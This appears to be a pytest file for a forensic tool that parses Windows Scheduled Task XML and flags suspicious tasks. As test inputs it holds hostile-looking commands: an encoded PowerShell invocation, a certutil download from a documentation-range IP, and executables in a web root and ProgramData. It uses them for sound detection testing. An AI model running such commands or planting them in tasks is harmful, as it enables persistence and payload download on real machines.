"""Scheduled tasks from their own files."""

import contextlib
import io

import pytest

from exhume.model import Cause, File, Gap, Record
from exhume.readers import READERS
from exhume.readers.tasks import Tasks
from pretend_server import assessed

FOLDER = "C/Windows/System32/Tasks/"
TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2021-03-05T04:00:00</Date><Author>EX01\\Administrator</Author><URI>\\Other</URI></RegistrationInfo>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>
  <Actions Context="Author">{}</Actions>
</Task>
"""
EXEC = "<Exec><Command>{}</Command><Arguments>{}</Arguments></Exec>"


def told(text, name="Updater"):
    data = text if isinstance(text, bytes) else text.encode("utf-16")
    file = File(
        "e", FOLDER + name, windows=f"C:\\Windows\\System32\\Tasks\\{name}", opener=lambda: contextlib.closing(io.BytesIO(data))
    )
    return list(Tasks().read(io.BytesIO(data), file, None))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8"])
def test_each_action_is_a_record_and_the_file_one_more(encoding):
    com = "<ComHandler><ClassId>{00000000-0000-0000-0000-000000000001}</ClassId></ComHandler>"
    out = told(TASK.format(EXEC.format("a.exe", "-b &quot;c d&quot;") + com).encode(encoding))
    assert [r for r in out if isinstance(r, Gap)] == []
    entry, first, second = (r for r in out if isinstance(r, Record))
    assert (entry.kind, entry.text("extension"), len(entry.text("sha256"))) == ("file.entry", "", 64)
    assert first.fields == {
        "name": "\\Updater", "windows_path": "C:\\Windows\\System32\\Tasks\\Updater", "Author": "EX01\\Administrator",
        "Date": "2021-03-05T04:00:00", "UserId": "S-1-5-18", "RunLevel": "HighestAvailable", "Enabled": "true", "Hidden": "true",
        "Action": "Exec", "Command": "a.exe", "Arguments": '-b "c d"',
    }  # fmt: skip
    assert (second.text("Action"), second.source.at) == ("ComHandler", "action 2")


@pytest.mark.parametrize("text", [TASK[:300], "<!DOCTYPE x [<!ENTITY a 'b'>]>" + TASK.format("&a;"), ""])
def test_what_is_damaged_is_told_and_still_a_file(text):
    out = told(text)
    assert [r.kind for r in out if isinstance(r, Record)] == ["file.entry"]
    assert [r.cause for r in out if isinstance(r, Gap)] == [Cause.DAMAGED]


def test_it_takes_tasks_by_their_content():
    file = File("e", FOLDER + "Updater")
    taking = [r.name for r in READERS if r.recognises(TASK.encode("utf-16")[:4096], file)]
    assert taking[0] == "tasks"
    assert not Tasks().recognises(b"<Task>", file)
    assert not Tasks().expects(file)


@pytest.mark.parametrize(
    ("command", "arguments", "found"),
    [
        ("powershell.exe", "-nop -enc " + "QQBC" * 9, True),
        ("cmd", "/c certutil -urlcache -f http://203.0.113.9/a a", True),
        ("C:\\inetpub\\wwwroot\\aspnet_client\\a.exe", "", True),
        ("%ProgramData%\\a.bat", "", True),
        ("powershell.exe", "-File D:\\Scripts\\CleanLogs.ps1", False),
        ("%windir%\\system32\\sc.exe", "start w32time task_started", False),
    ],
)
def test_what_a_task_runs_is_judged(command, arguments, found):
    path = FOLDER + "Updater"
    told = assessed({path: TASK.format(EXEC.format(command, arguments)).encode("utf-16")})
    assert [f.source.path for f in told.findings if "task" in f.title.lower()] == ([path] if found else [])
